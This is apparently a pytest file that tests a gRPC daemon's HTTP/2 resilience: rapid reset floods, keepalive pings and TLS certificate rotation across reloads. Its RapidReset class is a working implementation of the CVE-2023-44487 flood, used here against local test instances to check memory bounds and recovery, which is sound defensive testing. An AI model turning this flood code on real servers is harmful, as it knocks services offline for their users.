"""
The HTTP/2 transport under hostile and long-lived clients: rapid reset
floods (hand-made frames: hpack comes with Debian's python3-h2), client
keepalive pings on idle streams, and TLS across reloads and certificate
rotation.
"""
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

import grpc
import hpack

import conftest
from conftest import SUCCEEDED, pb, wait_for
from test_nginx import nginx_front  # noqa: F401 (fixture)

# ---------------------------------------------------------------------------
# raw HTTP/2
# ---------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream_id) + payload


def request_headers(authority, path=conftest.METHOD_SUBMIT):
    """A HEADERS block that leaves the peer's HPACK table alone, so that the
    same bytes can open any number of streams."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", authority), ("content-type", "application/grpc"),
              ("te", "trailers")]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields])


class RapidReset:
    """The CVE-2023-44487 pattern against host:port, in a thread: open a
    doSomething stream and reset it at once, in batches, for `seconds`.
    GOAWAYs are ignored; a closed connection is reopened at once."""

    BATCH = 200

    def __init__(self, address, seconds):
        host, port = address.rsplit(":", 1)
        self.target = (host, int(port))
        self.block = request_headers(address)
        self.seconds = seconds
        self.streams = 0
        self.connections = 0
        self.goaways = []
        self.thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self.thread.start()
        return self

    def join(self):
        self.thread.join(timeout=self.seconds + 30)
        assert not self.thread.is_alive(), "the flood did not stop"

    def _run(self):
        deadline = time.monotonic() + self.seconds
        while time.monotonic() < deadline:
            try:
                self._one_connection(deadline)
            except OSError:
                time.sleep(0.01)

    def _one_connection(self, deadline):
        with socket.create_connection(self.target, timeout=5) as s:
            self.connections += 1
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            closed = threading.Event()
            reader = threading.Thread(target=self._read, args=(s, closed), daemon=True)
            reader.start()
            stream_id = 1
            try:
                while time.monotonic() < deadline and not closed.is_set() \
                        and stream_id < 2 ** 31 - 2 * self.BATCH:
                    batch = []
                    for _ in range(self.BATCH):
                        batch.append(frame(HEADERS, END_HEADERS, stream_id, self.block))
                        batch.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                        stream_id += 2
                    s.sendall(b"".join(batch))
                    self.streams += self.BATCH
            finally:
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                reader.join(timeout=5)

    def _read(self, s, closed):
        buf = b""
        try:
            while True:
                data = s.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
                    if kind == GOAWAY:
                        self.goaways.append(payload[4:8])
                    elif kind == SETTINGS and not flags & ACK:
                        s.sendall(frame(SETTINGS, ACK, 0))
                    buf = buf[9 + length:]
        except OSError:
            pass
        closed.set()


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError(f"no VmRSS for {pid}")


class RssWatch:
    """The largest VmRSS of a process, sampled in a thread until stop()."""

    def __init__(self, pid):
        self.pid = pid
        self.peak = rss_kib(pid)
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.done.wait(0.05):
            try:
                self.peak = max(self.peak, rss_kib(self.pid))
            except (OSError, AssertionError):
                return

    def stop(self):
        self.done.set()
        self.thread.join(timeout=5)
        return self.peak


RSS_BOUND_KIB = 200 * 1024
FLOOD_SECONDS = 6


def submit_resending(client, batch, attempts=5):
    """Submit BATCH as a well-behaved client does: resent with the same ids
    when the call fails without a reply. If the flood exhausts the grpc
    process's descriptors, the listener restart (server.c) ends the calls
    gRPC still holds, a bystander's among them (README: what remains); the
    resend is then safe (duplicates) and must be all it takes."""
    for attempt in range(attempts):
        try:
            reply = client.submit(batch, timeout=120)
        except grpc.RpcError as e:
            if e.code() not in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.CANCELLED) \
                    or attempt == attempts - 1:
                raise
            time.sleep(0.5)
            continue
        assert reply.accepted + reply.duplicates == len(batch) and not reply.rejections, reply
        return reply


def flood_and_submit(d, target_address, client):
    """Flood target_address while `client` submits items now and then; return
    (peak RSS of d's grpc process in KiB, the flood)."""
    grpc_pid = d.grpc_pid()
    watch = RssWatch(grpc_pid)
    # Connected before the flood, as a bystander already is.
    grpc.channel_ready_future(client.channel).result(timeout=10)
    flood = RapidReset(target_address, FLOOD_SECONDS).start()
    ids = []
    try:
        wait_for(lambda: flood.streams > 0, 10, "the flood to start")
        for n in range(3):
            batch = [{"id": f"bystander-{n}-{i}", "kind": "echo", "payload": b"x"}
                     for i in range(20)]
            submit_resending(client, batch)
            ids += [b["id"] for b in batch]
            time.sleep(1)
        flood.join()
        # Every bystander item ran once (what the subscriber would have seen,
        # unless the listener restart below ended its stream too).
        reply = client.stub.getItems(pb.ItemsRequest(item_ids=ids, wait=True), timeout=120)
        assert not reply.not_found, reply.not_found
        assert [(i.state, i.attempt) for i in reply.items] == [(SUCCEEDED, 1)] * len(ids), reply
    finally:
        peak = watch.stop()
    assert d.grpc_pid() == grpc_pid, "the grpc process was replaced during the flood"
    return peak, flood


# ---------------------------------------------------------------------------
# rapid reset
# ---------------------------------------------------------------------------

@conftest.pytest.mark.deadline(240)
def test_rapid_reset_flood_leaves_no_memory_behind(start_daemon):
    """gRPC 1.51 holds a call per reset stream while the flood lasts (see the
    nginx test for the bound on that); once it ends, the memory goes back."""
    d = start_daemon({"workers": {"count": 1}})
    client = d.client()
    peak, flood = flood_and_submit(d, d.address, client)
    assert flood.streams > 10000, f"the flood sent only {flood.streams} streams"
    grpc_pid = d.grpc_pid()
    if conftest.SANITIZED:
        return      # the flood did not take the daemon down; RSS is ASan's
    try:
        wait_for(lambda: rss_kib(grpc_pid) < RSS_BOUND_KIB, 30,
                 f"the grpc process to shrink below {RSS_BOUND_KIB // 1024} MiB")
    except AssertionError as e:
        raise AssertionError(f"{e}: it holds {rss_kib(grpc_pid) // 1024} MiB after a flood of "
                             f"{flood.streams} streams (peak {peak // 1024} MiB)") from None
    reply, _ = client.run_items([{"id": "after-flood", "kind": "echo", "payload": b"y"}])
    assert reply.accepted == 1


@conftest.pytest.mark.deadline(120)
def test_max_connection_age_sends_a_flooding_connection_a_goaway(start_daemon):
    # (Whether the grace then closes it in time under the flood varies: not
    # asserted.)
    d = start_daemon({"workers": {"count": 1},
                      "grpc": {"max_connection_age": "1s", "max_connection_age_grace": "1s"}})
    flood = RapidReset(d.address, 5).start()
    flood.join()
    assert flood.goaways, "no GOAWAY reached the flooding client"
    client = d.client()
    reply, _ = client.run_items([{"id": "after-aged-flood", "kind": "echo", "payload": b"y"}])
    assert reply.accepted == 1


NGINX_RSS_BOUND_KIB = 512 * 1024


@conftest.pytest.mark.deadline(240)
def test_rapid_reset_through_nginx_reaches_the_instances_damped(start_daemon, nginx_front):
    """nginx (Debian 1.22.1 with the CVE-2023-44487 fix) ends a connection
    that resets too many streams, but a client that reconnects at once still
    gets a share of its resets through to the instances as calls: the grpc
    processes grow far less than with a direct flood (1.2 GiB in 6 s here),
    not nothing. Once the flood ends, the memory goes back."""
    instances = [start_daemon({"workers": {"count": 1}}, name=f"n{n}") for n in (1, 2)]
    front = nginx_front([d.address for d in instances])
    d = instances[0]
    client = d.client()
    other = RssWatch(instances[1].grpc_pid())
    try:
        peak, flood = flood_and_submit(d, front.address, client)
    except BaseException:
        for i in instances:     # shown with the failure: e.g. an accept4() at the limit
            print(f"----- {i.name}'s log\n{i.log_tail(80)}", file=sys.stderr)
        raise
    finally:
        other_peak = other.stop()
    assert flood.streams > 10000, f"the flood sent only {flood.streams} streams"
    for i, p in zip(instances, [peak, other_peak]):
        if conftest.SANITIZED:
            break       # RSS is ASan's allocator's
        assert p < NGINX_RSS_BOUND_KIB, (
            f"{i.name}'s grpc process reached {p // 1024} MiB behind nginx during a rapid "
            f"reset flood of {flood.streams} streams on {flood.connections} connections")
        pid = i.grpc_pid()
        wait_for(lambda: rss_kib(pid) < RSS_BOUND_KIB, 30,
                 f"{i.name}'s grpc process to shrink below {RSS_BOUND_KIB // 1024} MiB")


# ---------------------------------------------------------------------------
# keepalive
# ---------------------------------------------------------------------------

KEEPALIVE_CLIENT = [("grpc.keepalive_time_ms", 1000),
                    ("grpc.keepalive_timeout_ms", 5000),
                    ("grpc.http2.max_pings_without_data", 0),
                    ("grpc.keepalive_permit_without_calls", 1)]


@conftest.pytest.mark.deadline(90)
def test_idle_stream_survives_client_keepalive_pings(start_daemon):
    """A client pinging every second on an idle getUpdates stream (gRPC's
    defaults answer the third such ping with GOAWAY too_many_pings)."""
    d = start_daemon({"grpc": {"keepalive": {"min_ping_interval": "500ms"}}})
    watcher = d.client(options=KEEPALIVE_CLIENT)
    sub = watcher.subscribe(sync=True, states=[SUCCEEDED], name="idle")
    time.sleep(8)       # idle: ~8 pings, no data either way
    assert not sub.done, f"the idle stream ended: {sub.describe_end()}"
    assert "too_many_pings" not in d.log_text(), d.log_tail()
    reply = d.client().submit([{"id": "after-pings", "kind": "echo", "payload": b"z"}])
    assert reply.accepted == 1
    sub.wait_final(["after-pings"], timeout=20)


@conftest.pytest.mark.deadline(90)
def test_pings_faster_than_allowed_get_a_logged_goaway(start_daemon):
    d = start_daemon({"grpc": {"keepalive": {"min_ping_interval": "10s"}}})
    watcher = d.client(options=KEEPALIVE_CLIENT)
    sub = watcher.subscribe(sync=True, states=[SUCCEEDED], name="pinger")
    sub.wait_end(timeout=30)
    d.wait_log(r"\[notice\] grpc \d+: gRPC: .*Sending goaway.*too_many_pings", timeout=10)


# ---------------------------------------------------------------------------
# TLS across reloads
# ---------------------------------------------------------------------------

def openssl(*args, cwd):
    subprocess.run(["openssl", *args], cwd=cwd, check=True, capture_output=True, timeout=30)


def make_server_cert(d, ca, cn):
    """ca.pem/ca.key (made once per CA name), and server-CN.pem/.key signed by it."""
    if not (d / f"{ca}.pem").exists():
        openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
                f"/CN={ca}", "-keyout", f"{ca}.key", "-out", f"{ca}.pem", cwd=d)
    (d / "san.ext").write_text("subjectAltName=IP:127.0.0.1,DNS:localhost\n")
    openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={cn}",
            "-keyout", f"{cn}.key", "-out", f"{cn}.csr", cwd=d)
    openssl("x509", "-req", "-in", f"{cn}.csr", "-CA", f"{ca}.pem", "-CAkey", f"{ca}.key",
            "-CAcreateserial", "-days", "2", "-extfile", "san.ext", "-out", f"{cn}.pem", cwd=d)


def install(d, cn):
    """Make CN's files the served ones, the way a renewal does: rename over."""
    for ext in ("pem", "key"):
        tmp = d / f"served.{ext}.new"
        tmp.write_bytes((d / f"{cn}.{ext}").read_bytes())
        os.rename(tmp, d / f"served.{ext}")


def served_subject(address):
    host, port = address.rsplit(":", 1)
    pem = ssl.get_server_certificate((host, int(port)), timeout=10)
    out = subprocess.run(["openssl", "x509", "-noout", "-subject"], input=pem.encode(),
                         capture_output=True, check=True, timeout=10).stdout.decode()
    return out.strip()


def tls_client(address, root):
    creds = grpc.ssl_channel_credentials(root_certificates=root.read_bytes())
    channel = grpc.secure_channel(address, creds)
    return channel, conftest.pb_grpc.DoSomethingServiceStub(channel)


@conftest.pytest.mark.deadline(120)
def test_tls_stream_survives_reloads_and_certificate_rotation(start_daemon, tmp_path):
    pki = tmp_path / "pki"
    pki.mkdir()
    make_server_cert(pki, "ca-one", "server-one")
    make_server_cert(pki, "ca-two", "server-two")
    install(pki, "server-one")
    d = start_daemon({"grpc": {"tls": {"cert": str(pki / "served.pem"),
                                       "key": str(pki / "served.key")}},
                      "shutdown_timeout": "1s"}, wait=False)
    d.wait_log("listening on", timeout=10)
    channel, stub = tls_client(d.address, pki / "ca-one.pem")
    try:
        updates = stub.getUpdates(conftest.pb.UpdatesRequest(states=[SUCCEEDED]))
        got = []

        def read():
            try:
                for u in updates:
                    got.append(u.item_id)
            except grpc.RpcError:
                pass        # cancelled when the test ends

        reader = threading.Thread(target=read, daemon=True)
        reader.start()

        def submit_and_see(item_id):
            reply = stub.doSomething(iter([conftest.pb.WorkItem(id=item_id, payload=b"x")]),
                                     timeout=10)
            assert reply.accepted == 1
            wait_for(lambda: item_id in got, 15, f"{item_id} on the old TLS stream")

        submit_and_see("before-reload")
        # An unchanged config: no rebind, the stream outlives shutdown_timeout.
        d.send_signal(conftest.signal.SIGHUP)
        d.wait_log(r"config generation 2 applied")
        time.sleep(2)
        submit_and_see("after-reload")

        # A renewed certificate (another CA, another name), then a reload.
        install(pki, "server-two")
        d.send_signal(conftest.signal.SIGHUP)
        d.wait_log(r"config generation 3 applied")
        wait_for(lambda: "server-two" in served_subject(d.address), 10,
                 "new connections to get the new certificate")
        new_channel, new_stub = tls_client(d.address, pki / "ca-two.pem")
        try:
            reply = new_stub.doSomething(iter([conftest.pb.WorkItem(id="new-cert",
                                                                    payload=b"x")]), timeout=10)
            assert reply.accepted == 1
        finally:
            new_channel.close()
        time.sleep(2)
        wait_for(lambda: "new-cert" in got, 15, "new-cert on the old TLS stream")
        submit_and_see("after-rotation")
        assert reader.is_alive(), "the old TLS stream ended"
        updates.cancel()
    finally:
        channel.close()
